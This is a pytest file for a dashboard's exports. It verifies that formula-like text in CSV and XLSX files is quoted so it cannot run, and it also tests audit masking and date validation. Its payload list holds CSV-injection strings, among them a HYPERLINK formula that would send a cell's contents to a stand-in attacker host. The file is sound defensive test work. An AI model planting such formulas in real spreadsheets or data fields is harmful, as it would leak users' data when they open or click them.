"""Exports are inert: no CSV or XLSX cell is a formula; the audit keeps the search masked; a bad period is a 400.

Issue 18, findings 2, 7 and 8: text that a spreadsheet would run as a formula (OWASP "CSV
Injection") is written with a leading quote in every CSV and as text in every XLSX (the console's
list export, the daily KPI files, the scoped CSV); numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select, update

from dashboard.domain.cells import formula_like, neutralise_cell, xlsx_cell
from dashboard.domain.pii import public_text
from dashboard.domain.roles import Role
from dashboard.domain.vocab import RegionLevel
from dashboard.services import exports
from dashboard.services.ingest.readers import RawRecord
from dashboard.store.database import db
from dashboard.store.models import Appeal, AuditLog, Region
from tests.console_support import PHONE_B, STREET_A, add_street_b, add_user, login

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1",
    "＋1",
    "－2",
    "＠SUM(A1)",
    " =1",
)
# Line breaks inside a text: quoted, so no new row starts with "=1+1" or "@A1".
LINE_BREAKS = "note\r=1+1\n@A1"
DESCRIPTIONS = (*PAYLOADS, LINE_BREAKS)
COMMUNITY = STREET_A + "009"  # a community added under the demo street, named like a formula
COMPOUND = COMMUNITY + "001"
COMMUNITY_NAME = "@SUM(A1)"
COMPOUND_NAME = '=HYPERLINK("http://evil.example","x")'
EXTERNAL_ID = "-2+3"
DAY = dt.date(2026, 11, 19)
PERIOD = "from=2026-11-01&to=2026-11-20"


def _add_hostile_appeals(app) -> None:
    """A community and compound named like formulas, and one open appeal per description (overdue by DAY)."""
    with db.transaction() as tx:
        tx.add(Region(code=COMMUNITY, name=COMMUNITY_NAME, level=RegionLevel.COMMUNITY, parent_code=STREET_A))
        tx.add(Region(code=COMPOUND, name=COMPOUND_NAME, level=RegionLevel.COMPOUND, parent_code=COMMUNITY))
    records = [
        RawRecord(
            location=f"test:{n}",
            fields={
                "external_id": f"INJ-{n}",
                "source": "hotline_12345",
                "reported_at": "2026-11-02 09:00:00",
                "category": "noise",
                "priority": "ordinary",
                "region_code": COMPOUND,
                "description": f"placeholder {n}",
            },
            raw_source="",
        )
        for n in range(len(DESCRIPTIONS))
    ]
    report = app.extensions["ingestor"].ingest(records, "appeal", source="test")
    assert report.created == len(DESCRIPTIONS), report
    # Stored as they might come from any feed or an older import (ingest trims, so set them here).
    with db.transaction() as tx:
        for n, payload in enumerate(DESCRIPTIONS):
            tx.execute(update(Appeal).where(Appeal.external_id == f"INJ-{n}").values(description=payload))
        tx.execute(update(Appeal).where(Appeal.external_id == "INJ-0").values(external_id=EXTERNAL_ID))


def _csv_fields(body: bytes, encoding: str = "utf-8") -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(encoding), newline="")))


def _assert_csv_inert(rows: list[list[str]]) -> None:
    hostile = [field for row in rows for field in row if formula_like(field)]
    assert hostile == []


def _assert_xlsx_inert(workbook) -> list:
    """Every cell of every sheet: not a formula, no text that reads as one. Returns the cells."""
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if isinstance(cell.value, str) and formula_like(cell.value)] == []
    return cells


def _shown(length: int) -> set[str]:
    """The payloads as an export shows them (masked and shortened as public_text does), each quoted."""
    shown = {"'" + public_text(payload, length) for payload in PAYLOADS}
    assert all(formula_like(text[1:]) for text in shown)  # still formula-like once masked: the quote matters
    return shown


def _xlsx_text(value: str) -> str:
    # XML keeps a carriage return only escaped; openpyxl may read it back as a line feed.
    return value.replace("\r", "\n")


# ---------------------------------------------------------------------------- the rule


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_gets_a_leading_quote(payload):
    assert neutralise_cell(payload) == "'" + payload
    assert xlsx_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["武侯区", "a=b", "'=1", "", "2026-11-19", "INJ-1", "0.875"])
def test_other_text_is_unchanged(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [-2, -2.5, 0, np.int64(-3), np.float64(-0.5), None, True])
def test_numbers_and_empty_cells_are_unchanged(value):
    assert neutralise_cell(value) is value


def test_an_xlsx_cell_drops_what_xml_cannot_hold_before_the_rule():
    assert xlsx_cell("\x01=1") == "'=1"
    assert xlsx_cell("ok\x0bok") == "okok"


def test_writers_keep_numbers_numeric_and_text_inert(tmp_path):
    frame = pd.DataFrame({"name": ["-2+3", "plain"], "delta": [-2, 5], "rate": [-0.5, None]})
    rows = _csv_fields(exports.csv_bytes(frame))
    assert rows == [["name", "delta", "rate"], ["'-2+3", "-2", "-0.5"], ["plain", "5", ""]]
    buffer = io.BytesIO()
    exports.write_xlsx(buffer, {"data": frame})
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["data"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("'-2+3", "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-2, "n")
    assert (sheet["C2"].value, sheet["C2"].data_type) == (-0.5, "n")


def test_the_daily_files_keep_a_negative_number_numeric(tmp_path, monkeypatch):
    monkeypatch.setattr(exports, "export_figure", lambda *_: type("NoFigure", (), {"write_image": print})())
    frame = pd.DataFrame(
        [{"date": "2026-11-19", "region_code": "510107", "region_name": "+1", "level": "district", "delta": -2}]
    )
    exports.write_files(frame, DAY, tmp_path, pd.DataFrame(columns=["category"]), pd.DataFrame())
    rows = _csv_fields((tmp_path / "kpi_2026-11-19.csv").read_bytes())
    assert rows[1] == ["2026-11-19", "510107", "'+1", "district", "-2"]
    summary = openpyxl.load_workbook(tmp_path / "kpi_2026-11-19.xlsx")["summary"]
    assert (summary["C2"].value, summary["E2"].value, summary["E2"].data_type) == ("'+1", -2, "n")


# ---------------------------------------------------------------------------- the console's list export


def test_the_list_export_writes_formula_like_text_as_inert_text(demo_app, client):
    _add_hostile_appeals(demo_app)
    add_user("lead", Role.ADMIN, None)
    login(client, "lead")
    response = client.get(f"/drill/export.csv?{PERIOD}")
    assert response.status_code == 200
    rows = _csv_fields(response.data, "utf-8-sig")
    _assert_csv_inert(rows)
    fields = {field for row in rows[1:] for field in row}
    assert _shown(60) <= fields
    assert public_text(LINE_BREAKS, 60) in fields
    assert "'" + COMPOUND_NAME in fields
    assert all(row[0].isdigit() for row in rows[1:])  # the id column: numbers, no quote

    response = client.get(f"/drill/export.xlsx?{PERIOD}")
    assert response.status_code == 200
    cells = _assert_xlsx_inert(openpyxl.load_workbook(io.BytesIO(response.data)))
    texts = {_xlsx_text(cell.value) for cell in cells if isinstance(cell.value, str)}
    assert {_xlsx_text(text) for text in _shown(60)} <= texts
    assert "'" + COMPOUND_NAME in texts
    sheet = openpyxl.load_workbook(io.BytesIO(response.data))["appeals"]
    assert {cell.data_type for cell in sheet["A"][1:]} == {"n"}  # the ids stay numbers


# ---------------------------------------------------------------------------- the daily KPI files


def test_the_daily_files_write_formula_like_text_as_inert_text(demo_app, client):
    _add_hostile_appeals(demo_app)
    folder = Path(demo_app.config["EXPORT_DIR"])
    assert exports.produce_day(db, demo_app.extensions["work_calendar"], DAY, folder)

    rows = _csv_fields((folder / "kpi_2026-11-19.csv").read_bytes())
    _assert_csv_inert(rows)
    community = next(row for row in rows if row[1] == COMMUNITY)
    assert community[2] == "'" + COMMUNITY_NAME and community[4].isdigit()  # the name quoted, the counts not

    workbook = openpyxl.load_workbook(folder / "kpi_2026-11-19.xlsx")
    _assert_xlsx_inert(workbook)
    names = [row[2] for row in workbook["communities"].iter_rows(min_row=2, values_only=True)]
    assert "'" + COMMUNITY_NAME in names
    overdue = [row for row in workbook["overdue"].iter_rows(values_only=True)]
    header = overdue[0]
    texts = {_xlsx_text(row[header.index("text")]) for row in overdue[1:]}
    assert {_xlsx_text(text) for text in _shown(80)} <= texts
    assert "'" + EXTERNAL_ID in {row[header.index("external_id")] for row in overdue[1:]}
    assert "'" + COMPOUND_NAME in {row[header.index("place")] for row in overdue[1:]}
    assert all(isinstance(row[header.index("id")], int) for row in overdue[1:])

    add_user("lead", Role.ADMIN, None)
    login(client, "lead")
    scoped = client.get("/exports/2026-11-19/scoped.csv")
    assert scoped.status_code == 200
    rows = _csv_fields(scoped.data)
    _assert_csv_inert(rows)
    assert next(row for row in rows if row[1] == COMMUNITY)[2] == "'" + COMMUNITY_NAME


# ---------------------------------------------------------------------------- the audit of an export


def test_the_audit_of_a_list_export_keeps_the_search_text_masked(demo_app, client):
    add_street_b(demo_app)
    add_user("lead", Role.ADMIN, None)
    login(client, "lead")
    response = client.get(f"/drill/export.csv?{PERIOD}&q={PHONE_B}")
    assert response.status_code == 200
    assert len(_csv_fields(response.data, "utf-8-sig")) - 1 == 3  # the search itself used the clear text
    with db.session() as session:
        entry = session.scalars(select(AuditLog).where(AuditLog.action == "export_list")).one()
    detail = json.dumps(entry.detail, ensure_ascii=False)
    assert PHONE_B not in detail
    assert entry.detail["rows"] == 3 and "5678" in entry.detail["query"]  # masked, not dropped


# ---------------------------------------------------------------------------- the period of a list export


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("from=0001-01-01&to=0001-01-02", "from"),
        ("from=0001-01-01", "from"),
        ("to=0001-01-05", "to"),
        ("from=1999-12-31&to=2000-01-02", "from"),
        ("to=2000-01-05", "from"),  # the default start, 30 days before "to", would be in 1999
        ("from=9999-12-30&to=9999-12-31", "from"),
        ("from=2026-11-01&to=9999-12-31", "to"),
        ("from=2026-11-20&to=2026-11-01", "from"),
        ("from=yesterday", "from"),
        ("to=2026-13-01", "to"),
    ],
)
def test_a_period_out_of_range_or_malformed_is_a_400_naming_the_parameter(demo_app, client, query, parameter):
    add_user("lead", Role.ADMIN, None)
    login(client, "lead")
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/drill/export.{fmt}?{query}")
        assert response.status_code == 400, (query, fmt)
        assert f"{parameter}:" in response.get_data(as_text=True)


def test_a_period_up_to_tomorrow_is_allowed(demo_app, client):
    add_user("lead", Role.ADMIN, None)
    login(client, "lead")
    tomorrow = dt.datetime.now(dt.UTC).date() + dt.timedelta(days=1)
    assert client.get(f"/drill/export.csv?to={tomorrow.isoformat()}").status_code == 200
    assert client.get("/drill/export.csv?from=2000-01-01&to=2000-01-31").status_code == 200
    far = tomorrow + dt.timedelta(days=2)
    assert client.get(f"/drill/export.csv?to={far.isoformat()}").status_code == 400
